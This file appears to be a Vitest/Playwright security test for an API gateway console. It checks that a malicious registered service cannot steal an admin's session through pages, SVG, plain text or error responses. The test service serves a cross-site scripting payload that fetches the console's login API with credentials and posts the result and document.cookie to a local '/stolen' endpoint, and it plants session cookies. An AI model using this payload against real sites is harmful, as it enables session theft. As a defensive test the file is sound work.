// An admin who opens a link to the gateway: the service behind it learns nothing of the session, and its page runs nothing.

import { createServer, type IncomingHttpHeaders } from 'node:http';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { listenLocally } from '../support/listen-locally.ts';
import { PATIENCE_MS } from '../support/patience.ts';
import { startConsole, type TestConsole } from '../support/start-console.ts';

let opened: TestConsole;
let link: string;
const seen: { readonly url: string; readonly headers: IncomingHttpHeaders }[] = [];
let owned = '';

/** What a member of any project may register: it waits for people with rights. */
const service = createServer((request, response) => {
  const url = request.url ?? '';
  seen.push({ url, headers: request.headers });
  request.resume();
  if (url.startsWith('/health')) return response.end();
  const cookies = ['aip_session=planted; Path=/', 'csrftoken=planted; Path=/'];
  const policy = "default-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin";
  const headers = {
    'set-cookie': cookies,
    'content-security-policy': policy,
    'clear-site-data': '"cookies"',
  };
  if (url.startsWith('/svg')) {
    response.writeHead(200, { ...headers, 'content-type': 'image/svg+xml' });
    return response.end(
      `<svg xmlns="http://www.w3.org/2000/svg"><title>picture</title><script>${owned}</script></svg>`,
    );
  }
  const type = url.startsWith('/plain') ? 'text/plain' : 'text/html';
  response.writeHead(url.startsWith('/fault') ? 500 : 200, { ...headers, 'content-type': type });
  response.end(`<!doctype html><title>page</title><p>hello</p><script>${owned}</script>`);
});

beforeAll(async () => {
  const port = await listenLocally(service);
  opened = await startConsole({ name: '链接', viewport: { width: 1280, height: 800 } });
  const { call, place, platform } = opened;
  owned = `document.title = 'owned'; fetch('${platform.url}/api/base/isLogin', { method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json' }, body: '{}' }).then((a) => a.text()).then((text) =>
      fetch('http://127.0.0.1:${port}/stolen', { method: 'POST', body: text + document.cookie }))`;
  const { id } = await call('registration.create', {
    ...place,
    name: '链接服务',
    code: 'lure',
    category: 'general',
    protocol: 'http',
    baseUrl: `http://127.0.0.1:${port}`,
    healthPath: '/health',
  });
  const { id: applicationId, secretKey } = await call('application.create', { ...place, name: '链接应用' });
  await call('application.interface.grant', { id: applicationId, interfaceId: id });
  link = `${platform.gatewayUrl}/services/lure/PATH?access_token=${secretKey}`;
  await vi.waitFor(async () => expect((await fetch(link.replace('PATH', 'ready'))).status).toBe(200), {
    timeout: PATIENCE_MS,
    interval: 100,
  });
  seen.length = 0;
});
afterAll(async () => {
  await opened?.stop();
  service.closeAllConnections();
  service.close();
});

const consoleCookies = async () =>
  (await opened.page.context().cookies(opened.platform.url))
    .filter(({ name }) => /aip_session|csrftoken/.test(name))
    .map(({ name, value }) => `${name}=${value}`)
    .sort();

describe.each(['page', 'svg', 'plain', 'fault'])('a link to a service of a member: /%s', (path) => {
  it('takes no cookie of the console there, brings none back, and runs nothing', async () => {
    const { page } = opened;
    const before = await consoleCookies();
    expect(before).toHaveLength(2);
    const at = seen.length;
    const answer = await page.goto(link.replace('PATH', path));
    expect(answer?.status()).toBe(path === 'fault' ? 500 : 200);
    // Everything that the page could ask for is asked for when the network is quiet.
    await page.waitForLoadState('networkidle');
    const got = seen.slice(at).filter(({ url }) => url.startsWith(`/${path}`));
    expect(got).toHaveLength(1);
    expect(got.map(({ headers }) => headers.cookie)).toEqual([undefined]);
    expect(seen.filter(({ url }) => url.startsWith('/stolen'))).toEqual([]);
    expect(await page.title()).not.toBe('owned');
    expect(await consoleCookies()).toEqual(before);
    const home = await page.request.post(`${opened.platform.url}/api/base/isLogin`, { data: {} });
    expect(home.status()).toBe(200);
  });
});
